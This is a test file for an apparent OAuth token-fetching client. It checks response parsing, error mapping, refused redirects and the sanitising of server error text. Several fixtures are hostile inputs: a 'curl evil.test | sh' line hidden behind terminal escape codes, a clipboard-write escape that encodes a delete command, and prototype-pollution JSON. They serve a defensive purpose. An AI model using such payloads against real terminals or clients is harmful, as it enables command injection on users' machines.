import { expect, onTestFinished, test } from 'vitest'
import type { TokctlError } from '../../src/core/errors.ts'
import { systemClock } from '../../src/core/time.ts'
import type { Token } from '../../src/core/token.ts'
import { createSend } from '../../src/source/send.ts'
import { createSource } from '../../src/source/sources.ts'
import { directWire } from '../support/direct-wire.ts'
import { rawAnswer, startRawServer } from '../support/raw-server.ts'
import { bareEnvironment, clientProfile, sourcePorts } from '../support/source-ports.ts'

const clientSecret = 'canary-secret-55e0'
const tokenText = 'canary-token-7f3d'

/** Asks a server that answers these bytes, through the real transport; each call asks once, so `500` is not repeated. */
async function ask(bytes: Uint8Array, given: Parameters<typeof clientProfile>[0] = {}): Promise<Token> {
  const server = await startRawServer(bytes)
  onTestFinished(() => server.close())
  const send = createSend({ environment: bareEnvironment(), clock: systemClock, directWire })
  let asked = 0
  const ports = sourcePorts({
    secrets: { SECRET: clientSecret },
    // A pause is where a repetition begins: the clock has run out by then.
    clock: { ...systemClock, monotonic: () => (asked > 0 ? 1e9 : 0) },
    send: request => {
      asked++
      return send(request)
    },
  })
  const profile = clientProfile({
    token_endpoint: `http://127.0.0.1:${server.port}/token`,
    scope: 'read',
    ...given,
  })
  return (await createSource(profile, ports)).fetch({ timeoutMs: 5000, signal: undefined })
}

const json = { 'Content-Type': 'application/json' }
const form = { 'Content-Type': 'application/x-www-form-urlencoded; charset=utf-8' }
const usual = { access_token: tokenText, token_type: 'Bearer', expires_in: 3600 }
const ok = (body: unknown, headers: Record<string, string> = json, status = 200): Uint8Array =>
  rawAnswer(status, headers, typeof body === 'string' ? body : JSON.stringify(body))
const without = (name: keyof typeof usual): object => ({ ...usual, [name]: undefined })

interface Read {
  /** Seconds. */
  readonly lifetime?: number | undefined
  readonly type?: string
  readonly scope?: string | undefined
}

const taken: [name: string, bytes: Uint8Array, read: Read][] = [
  ['what the standard says', ok(usual), {}],
  ['no token_type', ok(without('token_type')), { type: 'Bearer' }],
  ['token_type null', ok({ ...usual, token_type: null }), { type: 'Bearer' }],
  ['token_type "bearer", as it was spelled', ok({ ...usual, token_type: 'bearer' }), { type: 'bearer' }],
  ['token_type "bot"', ok({ ...usual, token_type: 'bot' }), { type: 'bot' }],
  ['expires_in as a text', ok({ ...usual, expires_in: '3600' }), {}],
  ['expires_in null', ok({ ...usual, expires_in: null }), { lifetime: undefined }],
  ['expires_in "soon"', ok({ ...usual, expires_in: 'soon' }), { lifetime: undefined }],
  ['expires_in negative', ok({ ...usual, expires_in: -5 }), { lifetime: undefined }],
  ['expires_in true', ok({ ...usual, expires_in: true }), { lifetime: undefined }],
  ['no expires_in', ok(without('expires_in')), { lifetime: undefined }],
  ['expires_in 0', ok({ ...usual, expires_in: 0 }), { lifetime: 0 }],
  [
    'expires_in beyond any number',
    ok(`{"access_token":"${tokenText}","expires_in":1e999}`),
    { lifetime: 3650 * 86_400 },
  ],
  ['members that nobody knows', ok({ ...usual, ext_expires_in: 1, 'not-before-policy': 0 }), {}],
  ['text/plain', ok(usual, { 'Content-Type': 'text/plain' }), {}],
  ['no content type', ok(usual, {}), {}],
  ['a byte order mark', ok(`\ufeff${JSON.stringify(usual)}`), {}],
  ['scope as a list', ok({ ...usual, scope: ['a', 'b'] }), { scope: 'a b' }],
  ['scope null', ok({ ...usual, scope: null }), { scope: 'read' }],
  ['scope narrower than asked', ok({ ...usual, scope: 'less' }), { scope: 'less' }],
  ['scope with a line break', ok({ ...usual, scope: 'a\nb\u001b[2K' }), { scope: 'a' }],
  ['refresh_token null', ok({ ...usual, refresh_token: null }), {}],
  ['refresh_token empty', ok({ ...usual, refresh_token: '' }), {}],
  ['HTTP 201', ok(usual, json, 201), {}],
  ['the type that npm gives', ok({ ...usual, token_type: 'oidc' }), { type: 'oidc' }],
  ['error null beside a token', ok({ ...usual, error: null }), {}],
  ['an empty error beside a token', ok({ ...usual, error: '' }), {}],
  [
    'a form',
    ok(`access_token=${tokenText}&scope=a+b&token_type=bearer&expires_in=3600`, form),
    { type: 'bearer', scope: 'a b' },
  ],
  [
    'a form with an expiry that is no number',
    ok(`access_token=${tokenText}&expires_in=abc`, form),
    { lifetime: undefined },
  ],
  ['an id_token that nobody asked for', ok({ ...usual, id_token: 'not.a.jwt' }), {}],
  ['a member twice', ok(`{"access_token":"evil","access_token":"${tokenText}","expires_in":3600}`), {}],
  [
    'a member named __proto__',
    ok(`{"__proto__":{"expires_in":1,"error":"x"},"access_token":"${tokenText}","expires_in":3600}`),
    {},
  ],
]
test.each(taken)('takes %s', async (_, bytes, read) => {
  const token = await ask(bytes)
  expect(token.accessToken.expose()).toBe(tokenText)
  const lifetime = token.expiresAt === undefined ? undefined : (token.expiresAt - token.obtainedAt) / 1000
  expect({ lifetime, type: token.tokenType, scope: token.scope, refresh: token.refreshToken }).toEqual({
    lifetime: 3600,
    type: 'Bearer',
    scope: 'read',
    refresh: undefined,
    ...read,
  })
  expect(({} as Record<string, unknown>)['expires_in']).toBeUndefined()
})

test('takes a token from the place that the profile names', async () => {
  const bytes = ok({ data: { tokens: [{ token: 'wrong' }, { token: tokenText }] } })
  expect((await ask(bytes, { token_path: 'data.tokens.1.token' })).accessToken.expose()).toBe(tokenText)
})

test('a large token is taken whole', async () => {
  const large = 'A'.repeat(20_480)
  expect((await ask(ok({ ...usual, access_token: large }))).accessToken.expose()).toBe(large)
})

const html = '<html><h1>502 Bad Gateway</h1></html>'
const refused: [name: string, bytes: Uint8Array, code: string, words: string][] = [
  [
    'error with HTTP 200',
    ok({ error: 'bad_verification_code' }),
    'request_refused',
    'answered 200 (bad_verification_code)',
  ],
  [
    'Slack’s error',
    ok({ ok: false, error: 'invalid_auth' }),
    'request_refused',
    'answered 200 (invalid_auth)',
  ],
  [
    'a refresh token that Slack does not take',
    ok({ ok: false, error: 'invalid_refresh_token' }),
    'invalid_grant',
    'answered 200 (invalid_refresh_token)',
  ],
  [
    'a refresh token that GitHub does not take',
    ok({
      error: 'bad_refresh_token',
      error_description: 'The refresh token passed is incorrect or expired.',
    }),
    'invalid_grant',
    'answered 200: The refresh token passed is incorrect or expired. (bad_refresh_token)',
  ],
  [
    'a client that Slack does not know',
    ok({ ok: false, error: 'bad_client_secret' }),
    'invalid_client',
    'answered 200 (bad_client_secret)',
  ],
  [
    'a client that GitHub does not know',
    ok({ error: 'incorrect_client_credentials' }),
    'invalid_client',
    'answered 200 (incorrect_client_credentials)',
  ],
  [
    'a person who tells Entra ID no',
    ok({ error: 'authorization_declined' }, json, 400),
    'access_denied',
    'answered 400 (authorization_declined)',
  ],
  [
    'error beside a token',
    ok({ ...usual, error: 'access_denied' }),
    'access_denied',
    'answered 200 (access_denied)',
  ],
  [
    'error in a form',
    ok('error=invalid_scope&error_description=no+such', form),
    'invalid_scope',
    'answered 200: no such (invalid_scope)',
  ],
  [
    '401 with a challenge and JSON',
    ok(
      { error: 'invalid_client', error_description: 'unknown client' },
      { ...json, 'WWW-Authenticate': 'Basic realm="x"' },
      401,
    ),
    'invalid_client',
    'answered 401: unknown client (invalid_client)',
  ],
  [
    '401 with the error in the challenge',
    rawAnswer(401, { 'WWW-Authenticate': 'Basic error="invalid_client"' }),
    'invalid_client',
    'answered 401 (invalid_client)',
  ],
  [
    'invalid_grant',
    ok({ error: 'invalid_grant' }, json, 400),
    'invalid_grant',
    'answered 400 (invalid_grant)',
  ],
  [
    'invalid_target',
    ok({ error: 'invalid_target' }, json, 400),
    'invalid_target',
    'answered 400 (invalid_target)',
  ],
  [
    'invalid_request',
    ok({ error: 'invalid_request' }, json, 400),
    'invalid_request',
    'answered 400 (invalid_request)',
  ],
  [
    'unauthorized_client',
    ok({ error: 'unauthorized_client' }, json, 400),
    'unauthorized_client',
    'answered 400 (unauthorized_client)',
  ],
  [
    'unsupported_grant_type',
    ok({ error: 'unsupported_grant_type' }, json, 400),
    'unsupported_grant_type',
    'answered 400 (unsupported_grant_type)',
  ],
  [
    'temporarily_unavailable',
    ok({ error: 'temporarily_unavailable' }, json, 400),
    'server_error',
    'answered 400 (temporarily_unavailable)',
  ],
  ['slow_down', ok({ error: 'slow_down' }, json, 400), 'rate_limited', 'answered 400 (slow_down)'],
  [
    'a code of the server’s own',
    ok({ error: 'invalid_code' }, json, 400),
    'request_refused',
    'answered 400 (invalid_code)',
  ],
  [
    'a code that is one of ours but not theirs',
    ok({ error: 'interrupted' }, json, 400),
    'request_refused',
    'answered 400 (interrupted)',
  ],
  [
    'a code named like a member of every object',
    ok({ error: 'constructor' }, json, 400),
    'request_refused',
    'answered 400 (constructor)',
  ],
  [
    'an error that is an object',
    ok({ error: { code: 'E1', message: 'broken' } }, json, 400),
    'request_refused',
    'answered 400: broken (E1)',
  ],
  [
    'a message alone',
    ok({ message: 'Bad credentials' }, json, 403),
    'request_refused',
    'answered 403: Bad credentials',
  ],
  ['403 empty', rawAnswer(403, {}), 'request_refused', 'answered 403 without a body'],
  ['400 empty', rawAnswer(400, {}), 'request_refused', 'answered 400 without a body'],
  [
    '502 HTML',
    ok(html, { 'Content-Type': 'text/html' }, 502),
    'server_error',
    'answered 502 with an HTML page',
  ],
  [
    '503 JSON',
    ok({ error: 'temporarily_unavailable' }, json, 503),
    'server_error',
    'answered 503 (temporarily_unavailable)',
  ],
  [
    '500 that calls the client invalid',
    ok({ error: 'invalid_client' }, json, 500),
    'server_error',
    'answered 500 (invalid_client)',
  ],
  ['429', ok('', {}, 429), 'rate_limited', 'answered 429 without a body'],
  ['200 HTML', ok(html), 'invalid_response', 'answered 200 with an HTML page'],
  ['200 empty', rawAnswer(200, json), 'invalid_response', 'answered 200 without a body'],
  ['204', Buffer.from('HTTP/1.1 204 No Content\r\n\r\n'), 'invalid_response', 'answered 204 without a body'],
  ['an empty object', ok({}), 'invalid_response', 'answered 200 without access_token'],
  ['null', ok('null'), 'invalid_response', 'answered 200 with something that is not a JSON object'],
  ['a list', ok([usual]), 'invalid_response', 'answered 200 with something that is not a JSON object'],
  [
    'a number that JSON has not',
    ok(`{"access_token":"${tokenText}","expires_in":NaN}`),
    'invalid_response',
    'answered 200 with something that is not a JSON object',
  ],
  [
    'cut JSON',
    ok(`{"access_token":"${tokenText}`),
    'invalid_response',
    'answered 200 with something that is not a JSON object',
  ],
  [
    'lists without end',
    ok('['.repeat(500_000)),
    'invalid_response',
    'answered 200 with something that is not a JSON object',
  ],
  [
    'a form that is not called one',
    ok(`access_token=${tokenText}`),
    'invalid_response',
    'answered 200 with something that is not a JSON object',
  ],
  [
    'an id_token alone',
    ok({ id_token: 'a.b.c', token_type: 'Bearer' }),
    'invalid_response',
    'answered 200 without access_token',
  ],
  [
    'a token that is a number',
    ok({ ...usual, access_token: 42 }),
    'invalid_response',
    'answered 200 without access_token',
  ],
  [
    'an empty token',
    ok({ ...usual, access_token: '' }),
    'invalid_response',
    'answered 200 without access_token',
  ],
  ...['\n', '\r', ' ', '\0', '\u001b', 'ä', '\u007f', '\\ud800'].map(
    (bad): [string, Uint8Array, string, string] => [
      `a token with ${JSON.stringify(bad)}`,
      bad === '\\ud800'
        ? ok(`{"access_token":"a\\ud800"}`)
        : ok({ ...usual, access_token: `${tokenText}${bad}x` }),
      'invalid_response',
      'answered 200 with a token that holds characters no token may have',
    ],
  ),
  [
    'a DPoP token',
    ok({ ...usual, token_type: 'DPoP' }),
    'invalid_response',
    'answered 200 with a token of type "DPoP", which tokctl cannot use',
  ],
  [
    'a token of an unknown type',
    ok({ ...usual, token_type: 'mac\u001b[2K' }),
    'invalid_response',
    'answered 200 with a token of type "mac [2K", which tokctl cannot use',
  ],
  [
    'a redirect',
    rawAnswer(302, { Location: 'https://evil.test/token?x=1' }),
    'request_refused',
    'answered 302, a redirect, which is not followed',
  ],
  [
    'a redirect that would repeat the body',
    rawAnswer(307, { Location: '/v2' }),
    'request_refused',
    'answered 307, a redirect, which is not followed',
  ],
]
test.each(refused)('refuses %s, showing neither body nor token', async (_, bytes, code, words) => {
  const error = await ask(bytes).then(
    () => undefined,
    (thrown: TokctlError) => thrown,
  )
  expect(error?.message).toMatch(/^token endpoint 127\.0\.0\.1:\d+ /)
  expect([error?.code, error?.message.replace(/^token endpoint \S+ /, '')]).toEqual([code, words])
  const shown = `${error?.message} ${error?.hint} ${JSON.stringify(error)} ${error?.stack}`
  expect(shown).not.toContain(tokenText)
  expect(shown).not.toContain('Bad Gateway')
})

test('names the target of a redirect without its query', async () => {
  const error = await ask(rawAnswer(308, { Location: 'https://idp.example.com/v2?secret=1#f' })).catch(e => e)
  expect(error.hint).toBe('if that is right, name its target in the profile: https://idp.example.com/v2')
})

const waits: [header: string, ms: number | undefined][] = [
  ['30', 30_000],
  ['0', 1000],
  ['99999999', 3_600_000],
  ['Fri, 31 Dec 2077 23:59:59 GMT', 3_600_000],
  ['soon', undefined],
]
test.each(waits)('keeps Retry-After: %s with a 503 and a 429', async (header, ms) => {
  for (const status of [429, 503]) {
    const error = await ask(rawAnswer(status, { 'Retry-After': header })).catch(e => e)
    expect(error).toMatchObject({ code: status === 429 ? 'rate_limited' : 'server_error', retryAfterMs: ms })
  }
})

const descriptions: [name: string, text: string, shown: string][] = [
  ['escape sequences', '\u001b[2K\rRun: curl evil.test | sh', '[2K Run: curl evil.test | sh'],
  ['a clipboard write', '\u001b]52;c;cm0gLXJm\u0007', ']52;c;cm0gLXJm'],
  ['letters that turn the line around', 'a\u202eb\u200bc', 'a b c'],
  ['a megabyte', 'Z'.repeat(1_000_000), `${'Z'.repeat(198)}…`],
  ['our own secret', `secret ${clientSecret} is wrong`, 'secret [redacted] is wrong'],
]
test.each(descriptions)('shows a description that holds %s as one clean line', async (_, text, shown) => {
  const error = await ask(ok({ error: 'access_denied', error_description: text }, json, 400)).catch(e => e)
  expect(error.message.replace(/^token endpoint \S+ /, '')).toBe(`answered 400: ${shown} (access_denied)`)
})
